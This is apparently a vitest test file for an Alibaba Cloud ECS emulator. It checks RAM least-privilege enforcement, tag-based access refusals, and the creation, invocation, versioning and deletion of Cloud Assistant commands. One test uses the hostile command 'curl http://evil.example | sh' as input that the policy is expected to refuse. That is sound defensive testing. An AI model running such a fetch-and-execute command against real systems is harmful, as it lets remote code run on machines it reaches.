/** RAM enforcement and registered Cloud Assistant commands in the emulator, through the real SDK. */
import { createRequire } from 'node:module';
import type EcsModule from '@alicloud/ecs20140526';
import { $OpenApiUtil } from '@alicloud/openapi-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  type InspectReport,
  type RunningEmulator,
  SEED,
  scriptMarker,
  startEmulator,
} from '../../src/emulator/index.js';
import { LEAST_PRIVILEGE, MANAGED_TAG } from '../support/least-privilege.js';

const Ecs = createRequire(import.meta.url)('@alicloud/ecs20140526') as typeof EcsModule;
const REGION = 'cn-hangzhou';
const shared = SEED.disks.sharedExt4;
const serial = shared.diskId.replace(/^d-/, '');
const host = shared.attachedTo;
const [managed, unmanaged] = SEED.instances.nvmeI.map((i) => i.id) as [string, string];

let emu: RunningEmulator;
let c: InstanceType<typeof Ecs.default>;

const admin = async (path: string, body: unknown) => {
  const res = await fetch(`${emu.url}/_emulator${path}`, { method: 'POST', body: JSON.stringify(body) });
  expect(res.status).toBe(200);
};
const tag = (resource: 'instance' | 'disk', id: string) =>
  admin('/tags', { resource, id, tags: [MANAGED_TAG] });

/** The SDK error of a refused call: its code, HTTP status and AccessDeniedDetail. */
async function refusal(call: Promise<unknown>) {
  const error = (await call.then(
    () => {
      throw new Error('expected the call to be refused');
    },
    (e: unknown) => e,
  )) as { code: string; statusCode: number; accessDeniedDetail: Record<string, unknown> | null };
  return { code: error.code, statusCode: error.statusCode, detail: error.accessDeniedDetail };
}

beforeAll(async () => {
  emu = await startEmulator({
    latency: { command: { baseMs: 40, jitterMs: 0 }, attach: { baseMs: 20, jitterMs: 0 } },
  });
  c = new Ecs.default(
    new $OpenApiUtil.Config({
      accessKeyId: 'sandbox',
      accessKeySecret: 'sandbox-secret',
      endpoint: emu.endpoint,
      protocol: 'http',
    }),
  );
});
afterAll(() => emu.close());
beforeEach(async () => {
  await admin('/reset', { seed: 'default' });
  await admin('/ram', { accessKeyId: 'sandbox', policy: LEAST_PRIVILEGE });
  for (const id of [managed, host]) await tag('instance', id);
  await tag('disk', shared.diskId);
  // The seed opts every instance in; this one is not.
  await admin('/tags', { resource: 'instance', id: unmanaged, tags: [] });
});

async function createInspect(name = 'shared-disk-bot-inspect-v1') {
  const r = await c.createCommand(
    new Ecs.CreateCommandRequest({
      regionId: REGION,
      name,
      type: 'RunShellScript',
      commandContent: Buffer.from(
        `${scriptMarker('inspect')}\nset -eu\necho "{{serial}}" "{{ACS::InstanceId}}"\n`,
      ).toString('base64'),
      enableParameter: true,
      timeout: 60,
    }),
  );
  return r.body!.commandId!;
}

async function finished(invokeId: string) {
  for (let n = 0; n < 300; n += 1) {
    const r = await c.describeInvocationResults(
      new Ecs.DescribeInvocationResultsRequest({ regionId: REGION, invokeId, contentEncoding: 'PlainText' }),
    );
    const rows = r.body!.invocation!.invocationResults!.invocationResult!;
    if (rows.length > 0 && rows.every((x) => x.invokeRecordStatus === 'Finished')) return rows;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  throw new Error(`invocation ${invokeId} did not finish`);
}

describe('RAM policy enforcement', () => {
  it('refuses an arbitrary RunCommand with Forbidden.RAM and the real error shape, even on a managed instance', async () => {
    const refused = await refusal(
      c.runCommand(
        new Ecs.RunCommandRequest({
          regionId: REGION,
          type: 'RunShellScript',
          commandContent: 'curl http://evil.example | sh',
          instanceId: [managed],
        }),
      ),
    );
    expect(refused).toMatchObject({
      code: 'Forbidden.RAM',
      statusCode: 403,
      detail: {
        AuthAction: 'ecs:RunCommand',
        NoPermissionType: 'ImplicitDeny',
        PolicyType: 'AccountLevelIdentityBasedPolicy',
      },
    });
    const state = (await (await fetch(`${emu.url}/_emulator/state`)).json()) as { invocations: unknown[] };
    expect(state.invocations).toEqual([]);
  });

  it('refuses to attach to an untagged instance, and attaches once the instance carries the tag', async () => {
    const attach = (instanceId: string) =>
      c.attachDisk(new Ecs.AttachDiskRequest({ instanceId, diskId: shared.diskId }));
    const refused = await refusal(attach(unmanaged));
    expect(refused).toMatchObject({
      code: 'Forbidden.RAM',
      statusCode: 403,
      detail: { AuthAction: 'ecs:AttachDisk' },
    });
    const calls = (await (await fetch(`${emu.url}/_emulator/calls?action=AttachDisk`)).json()) as {
      calls: { code: string }[];
    };
    expect(calls.calls.map((x) => x.code)).toEqual(['Forbidden.RAM']);
    await tag('instance', unmanaged);
    await expect(attach(unmanaged)).resolves.toBeDefined();
  });

  it('reads stay open; a key without a policy may do anything; clearing the policy lifts it', async () => {
    await expect(c.describeDisks(new Ecs.DescribeDisksRequest({ regionId: REGION }))).resolves.toBeDefined();
    await admin('/ram', { accessKeyId: 'sandbox', policy: null });
    const r = await c.runCommand(
      new Ecs.RunCommandRequest({
        regionId: REGION,
        type: 'RunShellScript',
        commandContent: scriptMarker('inspect'),
        instanceId: [unmanaged],
      }),
    );
    expect(r.body!.invokeId).toMatch(/^t-/);
  });
});

describe('registered Cloud Assistant commands', () => {
  it('creates a command once, lists it by name with its parameters, and invokes it on managed instances with parameters', async () => {
    const commandId = await createInspect();
    const listed = await c.describeCommands(
      new Ecs.DescribeCommandsRequest({ regionId: REGION, name: 'shared-disk-bot-inspect-v1' }),
    );
    const [command] = listed.body!.commands!.command!;
    expect(command).toMatchObject({
      commandId,
      name: 'shared-disk-bot-inspect-v1',
      enableParameter: true,
      parameterNames: { parameterName: ['serial'] },
      invokeTimes: 0,
    });
    const invoked = await c.invokeCommand(
      new Ecs.InvokeCommandRequest({
        regionId: REGION,
        commandId,
        instanceId: [host, managed],
        parameters: { serial },
      }),
    );
    const rows = await finished(invoked.body!.invokeId!);
    const byInstance = Object.fromEntries(
      rows.map((r) => [r.instanceId, JSON.parse(r.output!) as InspectReport]),
    );
    expect(byInstance[host]).toMatchObject({ attached: true, fstype: 'ext4', mountpoints: ['/data'] });
    expect(byInstance[managed]).toMatchObject({ attached: false });
    const again = await c.describeCommands(new Ecs.DescribeCommandsRequest({ regionId: REGION, commandId }));
    expect(again.body!.commands!.command![0]!.invokeTimes).toBe(1);
  });

  it('refuses an invocation that includes an untagged instance, or leaves a parameter unset', async () => {
    const commandId = await createInspect();
    const refused = await refusal(
      c.invokeCommand(
        new Ecs.InvokeCommandRequest({
          regionId: REGION,
          commandId,
          instanceId: [managed, unmanaged],
          parameters: { serial },
        }),
      ),
    );
    expect(refused).toMatchObject({ code: 'Forbidden.RAM', detail: { AuthAction: 'ecs:InvokeCommand' } });
    const unset = await refusal(
      c.invokeCommand(new Ecs.InvokeCommandRequest({ regionId: REGION, commandId, instanceId: [managed] })),
    );
    expect(unset).toMatchObject({ code: 'InvalidParameter', statusCode: 400 });
  });

  it('keeps versions of one name apart and deletes an old one', async () => {
    const first = await createInspect('shared-disk-bot-inspect');
    const second = await createInspect('shared-disk-bot-inspect');
    const listed = await c.describeCommands(
      new Ecs.DescribeCommandsRequest({ regionId: REGION, name: 'shared-disk-bot-inspect' }),
    );
    expect(listed.body!.commands!.command!.map((x) => [x.commandId, x.version, x.latest])).toEqual([
      [first, 1, false],
      [second, 2, true],
    ]);
    await c.deleteCommand(new Ecs.DeleteCommandRequest({ regionId: REGION, commandId: first }));
    const after = await c.describeCommands(new Ecs.DescribeCommandsRequest({ regionId: REGION }));
    expect(after.body!.commands!.command!.map((x) => x.commandId)).toEqual([second]);
    const gone = await refusal(
      c.invokeCommand(
        new Ecs.InvokeCommandRequest({
          regionId: REGION,
          commandId: first,
          instanceId: [managed],
          parameters: { serial },
        }),
      ),
    );
    expect(gone).toMatchObject({ code: 'InvalidCommandId.NotFound', statusCode: 404 });
  });
});
